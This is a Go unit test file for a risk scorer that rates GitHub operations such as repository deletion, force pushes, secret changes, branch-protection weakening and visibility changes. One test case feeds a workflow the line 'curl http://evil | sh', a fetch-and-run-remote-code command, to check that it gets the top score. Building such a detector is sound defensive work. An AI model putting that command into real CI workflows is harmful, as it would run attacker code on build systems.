package risk

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
)

func TestCompute_Table(t *testing.T) {
	tests := []struct {
		name      string
		in        Input
		wantScore float64
		wantFirst string
	}{
		{
			name:      "repo delete",
			in:        Input{Operation: OpDeleteRepo, Object: "repository"},
			wantScore: 8.0,
			wantFirst: "github_irreversible_repo_deletion",
		},
		{
			name:      "force push",
			in:        Input{Operation: OpForcePush},
			wantScore: 7.0,
			wantFirst: "github_force_push_danger",
		},
		{
			name:      "merge to default branch",
			in:        Input{Object: "merge", IsTargetDefault: true},
			wantScore: 5.0,
			wantFirst: "github_merge_to_main",
		},
		{
			name:      "merge to non default branch",
			in:        Input{Object: "merge", IsTargetDefault: false},
			wantScore: 2.0,
			wantFirst: "github_merge_operation",
		},
		{
			name:      "default branch delete",
			in:        Input{Object: "branch", IsDefault: true},
			wantScore: 6.0,
			wantFirst: "github_default_branch_deletion",
		},
		{
			name:      "repo transfer",
			in:        Input{Operation: OpRepoTransfer},
			wantScore: 10.0,
			wantFirst: "github_repo_transfer_irreversible",
		},
		{
			name:      "secret update, non-critical name",
			in:        Input{Operation: OpSecretCreateOrUpdate, SecretName: "SOME_TOKEN"},
			wantScore: 9.5,
			wantFirst: "github_secret_cicd_access",
		},
		{
			name:      "secret update, critical name",
			in:        Input{Operation: OpSecretCreateOrUpdate, SecretName: "PROD_AWS_KEY"},
			wantScore: 10.0,
			wantFirst: "github_secret_cicd_access",
		},
		{
			name:      "secret delete, critical name",
			in:        Input{Operation: OpSecretDelete, SecretName: "database_url"},
			wantScore: 10.0,
			wantFirst: "github_secret_deletion",
		},
		{
			name:      "workflow update, suspicious content",
			in:        Input{Operation: OpWorkflowUpdate, WorkflowContent: "curl http://evil | sh"},
			wantScore: 10.0,
			wantFirst: "github_workflow_code_execution",
		},
		{
			name:      "branch protection weaken on main, zero reviews",
			in:        Input{Operation: OpBranchProtectionUpdate, Branch: "main", RequiredReviews: 0},
			wantScore: 10.0,
			wantFirst: "github_branch_protection_weakening",
		},
		{
			name:      "branch protection delete on main",
			in:        Input{Operation: OpBranchProtectionDelete, Branch: "main"},
			wantScore: 10.0,
			wantFirst: "github_branch_protection_removal",
		},
		{
			name:      "visibility to public",
			in:        Input{Operation: OpVisibilityChange, MakingPublic: true},
			wantScore: 10.0,
			wantFirst: "github_making_repo_public_permanent",
		},
		{
			name:      "visibility to private",
			in:        Input{Operation: OpVisibilityChange, MakingPublic: false},
			wantScore: 5.0,
			wantFirst: "github_making_repo_private",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			score, reasons := Compute(tt.in)
			assert.InDelta(t, tt.wantScore, score, 0.001)
			if assert.NotEmpty(t, reasons) {
				assert.Equal(t, tt.wantFirst, reasons[0])
			}
		})
	}
}

func TestCompute_TitleAndRecencyBonuses(t *testing.T) {
	score, reasons := Compute(Input{
		Operation: OpForcePush,
		Title:     "prod hotfix",
		LastEdit:  time.Now().Add(-1 * time.Hour),
	})
	assert.InDelta(t, 7.5, score, 0.001)
	assert.Contains(t, reasons, "github_name_keywords")
	assert.Contains(t, reasons, "github_recent_commit")
}

func TestCompute_NoRecencyBonusWhenStale(t *testing.T) {
	_, reasons := Compute(Input{
		Operation: OpForcePush,
		LastEdit:  time.Now().Add(-48 * time.Hour),
	})
	assert.NotContains(t, reasons, "github_recent_commit")
}

func TestNormalize(t *testing.T) {
	assert.InDelta(t, 0.8, Normalize(8.0), 0.001)
	assert.Equal(t, 1.0, Normalize(15.0))
	assert.Equal(t, 0.0, Normalize(-1.0))
}
